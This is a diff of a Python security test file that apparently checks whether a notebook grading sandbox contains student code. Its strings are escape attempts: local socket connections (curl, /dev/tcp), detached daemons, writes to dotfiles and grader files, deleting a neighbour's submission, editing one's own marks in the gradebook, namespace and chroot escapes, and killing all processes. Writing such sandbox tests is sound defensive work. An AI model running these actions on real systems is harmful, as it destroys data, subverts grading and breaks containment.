@@ -5,33 +5,33 @@ from tests.attacks.attack import Attack, first, in_target, last
 FAMILY = "escaping"
 
 # what would end or change the machine itself is only tried where it can see that it is caged
-CAGED = '''
+CAGED = """
 caged = open("/proc/1/comm").read().strip() == "bwrap"
-'''
+"""
 
 SOURCES = {
-    "tcp_connection": '''
+    "tcp_connection": """
 import socket
 socket.create_connection(("127.0.0.1", @PORT@), 3).send(b"hello")
-''',
-    "tcp_by_shell": '!curl -s -m 3 http://127.0.0.1:@PORT@/; (echo hello > /dev/tcp/127.0.0.1/@PORT@)',
-    "tcp_by_library": '''
+""",
+    "tcp_by_shell": "!curl -s -m 3 http://127.0.0.1:@PORT@/; (echo hello > /dev/tcp/127.0.0.1/@PORT@)",
+    "tcp_by_library": """
 import urllib.request
 urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=3)
-''',
-    "tcp_while_judged": '''
+""",
+    "tcp_while_judged": """
 import socket
 def batchnorm_forward(*args, **kwargs):
     with socket.create_connection(("127.0.0.1", @PORT@), 3) as out:
         out.send(repr(args).encode())
-''',
-    "unix_socket": '''
+""",
+    "unix_socket": """
 import socket, os
 os.chdir("@OUTSIDE@")
 out = socket.socket(socket.AF_UNIX)
 out.connect("service.sock")
-''',
-    "daemon": '''
+""",
+    "daemon": """
 import os
 if os.fork() == 0:
     os.setsid()
@@ -40,59 +40,59 @@ if os.fork() == 0:
             os.close(fd)
         os.execv("/bin/sh", ["sh", "-c", "sleep 60; : @STRAY@"])
     os._exit(0)
-''',
-    "daemon_by_shell": '''
+""",
+    "daemon_by_shell": """
 import subprocess
 for command in ("nohup setsid sh -c 'sleep 60; : @STRAY@' >/dev/null 2>&1 &",
                 "(trap '' HUP TERM INT; sleep 60; : @STRAY@) >/dev/null 2>&1 &"):
     subprocess.Popen(command, shell=True, start_new_session=True)
-''',
-    "daemon_at_the_end": '''
+""",
+    "daemon_at_the_end": """
 import subprocess, atexit, os, signal
 signal.signal(signal.SIGTERM, signal.SIG_IGN)
 atexit.register(lambda: os.system("sh -c 'sleep 60; : @STRAY@' &"))
 def batchnorm_forward(*args, **kwargs):
     subprocess.Popen(["sh", "-c", "sleep 60; : @STRAY@"], start_new_session=True)
     os._exit(1)
-''',
-    "write_outside": '''
+""",
+    "write_outside": """
 open("@OUTSIDE@/secret.txt", "a").write("was here")
-''',
-    "write_home": '''
+""",
+    "write_home": """
 import os
 for name in (".bashrc", ".netrc", ".ipython/profile_default/startup/00.py"):
     os.makedirs(os.path.dirname(f"@HOME@/{name}"), exist_ok=True)
     open(f"@HOME@/{name}", "a").write("# was here")
-''',
-    "write_course": '''
+""",
+    "write_course": """
 import os
 for name in ("nbgrader_config.py", "grader/judge.py", "solutions/02_batchnorm_forward/x.ipynb"):
     os.makedirs(os.path.dirname(f"@COURSE@/{name}"), exist_ok=True)
     open(f"@COURSE@/{name}", "a").write("# was here")
-''',
-    "write_temporary": '''
+""",
+    "write_temporary": """
 for folder in ("/tmp", "/var/tmp", "/dev/shm"):
     try:
         open(f"{folder}/@STRAY@.txt", "w").write("was here")
     except OSError as error:
         print(error)
-''',
-    "delete_others": '''
+""",
+    "delete_others": """
 import shutil
 shutil.rmtree("@COURSE@/submitted/neighbour")
-''',
-    "symlink_out": '''
+""",
+    "symlink_out": """
 import os
 for target in ("@OUTSIDE@", "@COURSE@", "/proc/1/root/@OUTSIDE@", "/proc/self/root/@OUTSIDE@"):
     os.symlink(target, "way"); open("way/new.txt", "w").write("was here"); os.unlink("way")
-''',
-    "own_marks": '''
+""",
+    "own_marks": """
 import sqlite3, glob
 for path in glob.glob("@COURSE@/gradebook.db") + glob.glob("../../../gradebook.db"):
     database = sqlite3.connect(path, timeout=5)
     database.execute("update grade set manual_score = 6")
     database.commit()
-''',
+""",
     "own_marks_later": '''
 import subprocess, sys
 code = """
@@ -119,19 +119,19 @@ for _ in range(60):
 """
 subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
 ''',
-    "namespaces": '''
+    "namespaces": """
 import ctypes, os
 libc = ctypes.CDLL(None, use_errno=True)
 for flag in (0x10000000, 0x00020000, 0x40000000):
     print(libc.unshare(flag), os.strerror(ctypes.get_errno()))
 print(libc.setuid(0), libc.chroot(b"/proc/1/root"), os.getuid())
 open("/proc/1/root@OUTSIDE@/new.txt", "w").write("was here")
-''',
+""",
 }
 # not tried on plain nbgrader: they would harm the machine that the benchmark runs on
 DANGEROUS = {
     "kill_the_grader": CAGED
-    + '''
+    + """
 import os, signal
 if caged:
     for pid in {os.getppid(), 1}:
@@ -140,15 +140,15 @@ if caged:
                 os.kill(pid, getattr(signal, name))
             except OSError as error:
                 print(error)
-''',
+""",
     "kill_everybody": CAGED
-    + '''
+    + """
 import os, signal
 if caged:
     os.kill(-1, signal.SIGKILL)
-''',
+""",
     "write_interpreter": CAGED
-    + '''
+    + """
 import os, sys, numpy, utils, IPython
 if caged:
     for path in (f"{sys.prefix}/lib/@STRAY@.pth", os.path.dirname(numpy.__file__) + "/@STRAY@.py",
@@ -160,9 +160,9 @@ if caged:
             raise SystemExit("SECRET-" "8c41f0: written")
         except OSError as error:
             print(error)
-''',
+""",
     "mount": CAGED
-    + '''
+    + """
 import ctypes, os
 if caged:
     libc = ctypes.CDLL(None, use_errno=True)
@@ -174,15 +174,15 @@ if caged:
             print(os.open(path, os.O_WRONLY), "SECRET-" "8c41f0: can be written")
         except OSError as error:
             print(error)
-''',
+""",
     "debugger": CAGED
-    + '''
+    + """
 import ctypes, os
 if caged:
     libc = ctypes.CDLL(None, use_errno=True)
     for pid in {1, os.getppid()}:
         print(libc.ptrace(16, pid, 0, 0), os.strerror(ctypes.get_errno()))
-''',
+""",
 }
 
 ATTACKS = [
